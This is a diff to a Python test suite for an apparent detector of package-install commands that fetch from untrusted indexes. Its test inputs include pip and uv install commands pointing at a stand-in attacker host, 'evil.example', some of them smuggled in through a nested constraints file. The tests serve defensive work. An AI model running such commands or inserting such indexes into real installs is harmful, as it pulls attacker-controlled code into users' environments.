@@ -270,6 +270,8 @@ ACME = Sources(indexes=("https://pypi.acme.example/simple/",))
         ("pip install https://evil.example/six-1.0-py3-none-any.whl", "evil.example"),
         ("pip install https://pypi.acme.example/files/six-1.0-py3-none-any.whl", ""),
         ("uv pip install --default-index https://evil.example/simple six", "evil.example"),
+        ("uv pip install --index https://pypi.acme.example/simple six", "https://pypi.org/simple"),
+        ("uv pip install --default-index https://pypi.acme.example/simple six", ""),
         ("pip uninstall -y six", ""),
         ("conda install six", ""),
     ],
@@ -290,6 +292,18 @@ def test_the_index_of_a_requirements_file() -> None:
     files = {"r.txt": "-i https://pypi.acme.example/simple\nsix\n"}
     met = facts_of("pip install -r r.txt", files=files, sources=ACME)
     assert index.look(met) is None
+    held = {"c.txt": "-i https://evil.example/simple\n", "n.txt": "-c c.txt\n"}
+    for line in ("-i https://pypi.acme.example/simple -c c.txt six", "-r n.txt six"):
+        for tool in ("pip", "uv pip"):
+            met = facts_of(f"{tool} install {line}", files=held, sources=ACME)
+            finding = index.look(met)
+            if tool == "pip" or "-r" in line:
+                assert finding is not None
+                assert "evil.example" in finding.message
+            else:
+                assert finding is None  # uv asks the first one in place of PyPI, and no other
+    met = facts_of("pip install -i https://evil.example/simple -r r.txt", files=files, sources=ACME)
+    assert index.look(met) is None  # the file's replaces it
     met = facts_of("pip install six", sources=ACME)
     finding = index.look(met)
     assert finding is not None
